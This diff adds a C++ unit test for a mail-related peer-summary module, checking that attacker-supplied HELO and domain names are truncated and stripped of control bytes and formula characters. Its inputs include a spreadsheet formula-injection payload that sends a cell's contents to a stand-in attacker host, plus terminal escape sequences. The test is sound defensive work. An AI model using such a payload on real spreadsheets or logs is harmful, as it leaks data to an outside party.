@@ -42,6 +42,30 @@ TEST(PeerCache, StaysBounded) {
   EXPECT_LE(m.size(), 16u * 5);
 }
 
+// What an attacker sends as HELO or a domain is stored short and clean:
+// no control bytes, no spaces, no formula characters (the security review
+// stored 255 raw bytes per name, control bytes included).
+TEST(PeerSummary, NamesAreCleanedOnArrival) {
+  std::vector<NameCount> names;
+  AddName(&names, "=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")");
+  AddName(&names, std::string("a\x1b[31m\x07\x00b\r\nc", 12));
+  AddName(&names, std::string(255, 'X'));
+  AddName(&names, "[192.0.2.1]");
+  AddName(&names, "Mail.Example.COM");
+  ASSERT_EQ(names.size(), 5u);
+  EXPECT_EQ(names[0].name[0], '?');
+  for (const auto& n : names) {
+    EXPECT_LE(n.name.size(), kMaxNameLength);
+    for (char c : n.name) {
+      EXPECT_TRUE(c > ' ' && c < 0x7f && c != '=' && c != '"' && c != '(')
+          << n.name;
+    }
+  }
+  EXPECT_EQ(names[3].name, "[192.0.2.1]");
+  EXPECT_EQ(names[4].name, "mail.example.com");
+  EXPECT_EQ(CleanName("<>"), "<>");
+}
+
 }  // namespace
 }  // namespace peer
 
